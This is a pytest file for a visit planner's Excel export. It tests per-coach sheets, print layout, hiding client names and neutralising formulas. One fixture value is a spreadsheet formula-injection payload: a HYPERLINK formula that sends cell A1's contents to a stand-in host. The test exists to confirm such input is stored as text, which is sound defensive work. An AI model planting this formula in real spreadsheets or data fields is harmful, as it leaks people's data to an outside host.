"""plan.xlsx: a sheet per coach and one of the unplanned, ready to print, formula-safe."""

from __future__ import annotations

from dataclasses import replace
from datetime import datetime
from pathlib import Path

import openpyxl
import pytest

from planner.model import Plan
from planner.render.workbook import UNPLANNED_SHEET, write_plan_xlsx

try:
    from tests import render_fixtures as rf
except ImportError:  # tests/ is not a package: pytest puts it on sys.path itself
    import render_fixtures as rf  # type: ignore[no-redef]

FORMULA = '=HYPERLINK("http://example.org/?"&A1,"klick")'


@pytest.fixture(scope="module")
def plan() -> Plan:
    base = rf.make_plan()
    tour = base.tours[1]
    first = tour.stops[0]
    evil = replace(first.visit.client, notes=FORMULA, phone="+49 6441 1")
    stops = (replace(first, visit=replace(first.visit, client=evil)), *tour.stops[1:])
    return replace(base, tours=(base.tours[0], replace(tour, stops=stops), *base.tours[2:]))


@pytest.fixture(scope="module")
def book(plan: Plan, tmp_path_factory: pytest.TempPathFactory) -> openpyxl.Workbook:
    path = write_plan_xlsx(plan, tmp_path_factory.mktemp("x") / "plan.xlsx")
    return openpyxl.load_workbook(path)


def _cells(sheet: openpyxl.worksheet.worksheet.Worksheet) -> list[object]:
    return [c.value for row in sheet.iter_rows() for c in row if c.value is not None]


def test_sheet_per_coach_and_unplanned(plan: Plan, book: openpyxl.Workbook) -> None:
    assert book.sheetnames == ["Anna Becker", "Jonas Weber", UNPLANNED_SHEET]
    anna = book["Anna Becker"]
    header = [c.value for c in anna[3]]
    assert header[:7] == ["Datum", "Tag", "Nr", "Ankunft", "Beginn", "Ende", "Kunden-Nr"]
    assert "Name" not in header
    ids = [r[6] for r in anna.iter_rows(min_row=4, values_only=True)]
    expected = [s.visit.client.id for t in plan.tours if t.coach.key == "coach-a" for s in t.stops]
    assert [i for i in ids if i != "Pause"] == expected
    assert ids.count("Pause") == 1  # the break of Tuesday, in order
    first = next(anna.iter_rows(min_row=4, values_only=True))
    assert isinstance(first[0], datetime) and first[2] == 1 and isinstance(first[-7], int)
    unplanned = book[UNPLANNED_SHEET]
    cells = _cells(unplanned)
    assert "K-1013" in cells and "K-1014" in cells
    assert any("Xyzdorf" in str(c) and "Lahn-Dill-Kreis" in str(c) for c in cells)


def test_print_layout(book: openpyxl.Workbook) -> None:
    for sheet in book.worksheets:
        assert sheet.print_title_rows == "$3:$3"  # header row on every page
        assert sheet.page_setup.orientation == "landscape"
        assert sheet.page_setup.fitToWidth == 1 and sheet.sheet_properties.pageSetUpPr.fitToPage
        assert "Sozialdaten" in sheet.oddFooter.left.text
        assert "&P" in sheet.oddFooter.right.text


def test_formula_is_text(book: openpyxl.Workbook) -> None:
    cell = next(c for row in book["Anna Becker"].iter_rows() for c in row if c.value == FORMULA)
    assert cell.data_type == "s" and cell.quotePrefix


def test_names_only_when_asked(plan: Plan, book: openpyxl.Workbook, tmp_path: Path) -> None:
    text = " ".join(str(c) for s in book.worksheets for c in _cells(s))
    for name in rf.NAMES:
        assert name.split()[-1].replace("</b>", "") not in text
    shown = openpyxl.load_workbook(write_plan_xlsx(plan, tmp_path / "n.xlsx", show_names=True))
    names = " ".join(str(c) for s in shown.worksheets for c in _cells(s))
    assert "Erwin Blaufelder" in names and "Timo Schlehdorn" in names
